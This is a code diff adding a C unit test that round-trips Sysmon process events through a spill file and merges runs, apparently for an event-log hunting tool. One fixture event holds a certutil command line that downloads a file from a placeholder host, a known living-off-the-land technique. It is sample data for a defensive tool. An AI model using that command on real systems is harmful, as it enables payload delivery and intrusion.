@@ -9,6 +9,7 @@
 #include "ev_arena.h"
 #include "ev_buf.h"
 #include "ev_json.h"
+#include "ev_spill.h"
 #include "ev_time.h"
 #include "ev_util.h"
 #include "event.h"
@@ -462,6 +463,115 @@ START_TEST(test_event_keep)
 }
 END_TEST
 
+/* Events through a spill file and back, and the merge of two runs. */
+START_TEST(test_spill)
+{
+	static const struct ev_pair d[] = {
+		{ "ProcessGuid", "{11111111-2222-3333-4444-555555555555}" },
+		{ "ProcessId", "0x10" },
+		{ "Image", "C:\\Windows\\System32\\certutil.exe" },
+		{ "CommandLine", "certutil -urlcache -f http://x/a a.exe" },
+		{ "", "unnamed" },
+	};
+	static const uint32_t hits[] = { 3, 7 };
+	const char *dir = getenv("TMPDIR") ? getenv("TMPDIR") : "/tmp";
+	struct ev_arena a;
+	struct ev_record r;
+	struct ev_event e[3];
+	struct ev_spill sp, out;
+	struct ev_spill_rd rd;
+	struct ev_spill_run in[2];
+	struct ev_spill_counts c = { 0 };
+	uint64_t events[2] = { 0 }, dups[2] = { 0 }, mid;
+	struct ev_err err = EV_ERR_INIT;
+
+	ev_arena_init(&a);
+	record(&r, EV_PROVIDER_SYSMON, 1, d, NELEM(d));
+	r.user_sid = "S-1-5-18";
+	ck_assert_int_eq(ev_normalise(&r, &a, &e[0]), 0);
+	e[0].hits = hits;
+	e[0].nhits = NELEM(hits);
+	e[0].dup_record = 99;
+	/* the same record recovered from file 1, and a later one */
+	e[1] = e[0];
+	e[1].recovered = true;
+	e[1].file_id = 1;
+	e[1].hits = NULL;
+	e[1].nhits = 0;
+	e[2] = e[0];
+	e[2].time++;
+	e[2].user_sid = NULL;
+	e[2].col[EV_COL_COMMAND_LINE] = "not a data value";
+	ck_assert_int_eq(ev_spill_open(&sp, dir, &err), 0);
+	ck_assert_int_eq(ev_spill_put(&sp, &e[0], &err), 0);
+	ck_assert_int_eq(ev_spill_put(&sp, &e[2], &err), 0);
+	ck_assert_int_eq(ev_spill_flush(&sp, &err), 0);
+	mid = sp.size;
+	ck_assert_int_eq(ev_spill_put(&sp, &e[1], &err), 0);
+	ck_assert_int_eq(ev_spill_flush(&sp, &err), 0);
+
+	/* read back: every field, a column that was a data value is one */
+	ev_spill_rd_init(&rd, &sp, 0, mid);
+	ck_assert_int_eq(ev_spill_next(&rd, &err), 1);
+	ck_assert_uint_eq(rd.ev->time, e[0].time);
+	ck_assert_uint_eq(rd.ev->record_id, 42);
+	ck_assert_uint_eq(rd.ev->dup_record, 99);
+	ck_assert_uint_eq(rd.ev->kind, EV_KIND_PROCESS);
+	ck_assert_uint_eq(rd.ev->nhits, 2);
+	ck_assert_uint_eq(rd.ev->hits[1], 7);
+	ck_assert_str_eq(rd.ev->user_sid, "S-1-5-18");
+	ck_assert_uint_eq(rd.ev->ndata, NELEM(d));
+	for (int i = 0; i < EV_NCOL; i++) {
+		if (e[0].col[i] == NULL)
+			ck_assert_ptr_null(rd.ev->col[i]);
+		else
+			ck_assert_str_eq(rd.ev->col[i], e[0].col[i]);
+	}
+	for (uint32_t i = 0; i < NELEM(d); i++) {
+		ck_assert_str_eq(rd.ev->data[i].name, d[i].name);
+		ck_assert_str_eq(rd.ev->data[i].value, d[i].value);
+		ck_assert_uint_eq(rd.ev->dlen[i], strlen(d[i].value));
+	}
+	ck_assert_ptr_eq(rd.ev->col[EV_COL_IMAGE], rd.ev->data[2].value);
+	ck_assert_int_eq(ev_spill_next(&rd, &err), 1);
+	ck_assert_str_eq(rd.ev->col[EV_COL_COMMAND_LINE], "not a data value");
+	ck_assert_ptr_null(rd.ev->user_sid);
+	ck_assert_int_eq(ev_spill_next(&rd, &err), 0);
+	ev_spill_rd_release(&rd);
+
+	/* two runs merged: the recovered copy is a duplicate */
+	in[0].sp = in[1].sp = &sp;
+	in[0].from = 0;
+	in[0].to = in[1].from = mid;
+	in[1].to = sp.size;
+	c.events = events;
+	c.duplicates = dups;
+	c.nfiles = 2;
+	ck_assert_int_eq(ev_spill_open(&out, dir, &err), 0);
+	ck_assert_int_eq(ev_spill_merge(in, 2, &out, &c, &err), 0);
+	ck_assert_uint_eq(c.kept, 2);
+	ck_assert_uint_eq(c.dropped, 1);
+	ck_assert_uint_eq(events[0], 2);
+	ck_assert_uint_eq(dups[1], 1);
+	ev_spill_rd_init(&rd, &out, 0, out.size);
+	ck_assert_int_eq(ev_spill_next(&rd, &err), 1);
+	ck_assert(!rd.ev->recovered);
+	ck_assert_int_eq(ev_spill_next(&rd, &err), 1);
+	ck_assert_uint_eq(rd.ev->time, e[2].time);
+	ck_assert_int_eq(ev_spill_next(&rd, &err), 0);
+	ev_spill_rd_release(&rd);
+	ev_spill_close(&out);
+	ev_spill_close(&sp);
+
+	/* a directory that is not there is named */
+	ck_assert_int_eq(ev_spill_open(&sp, "/nonexistent-evtxhunt-dir",
+	    &err), EV_EIO);
+	ck_assert_ptr_nonnull(strstr(err.msg, "'/nonexistent-evtxhunt-dir'"));
+	ev_spill_close(&sp);
+	ev_arena_release(&a);
+}
+END_TEST
+
 START_TEST(test_classify)
 {
 	ck_assert_int_eq(ev_classify(EV_PROVIDER_SECURITY,
@@ -665,6 +775,7 @@ core_suite(void)
 	tcase_add_test(tc, test_classify);
 	tcase_add_test(tc, test_norm_shared);
 	tcase_add_test(tc, test_event_keep);
+	tcase_add_test(tc, test_spill);
 	tcase_add_test(tc, test_norm_4688_v2);
 	tcase_add_test(tc, test_norm_4688_v0_system);
 	tcase_add_test(tc, test_norm_4688_null_target);
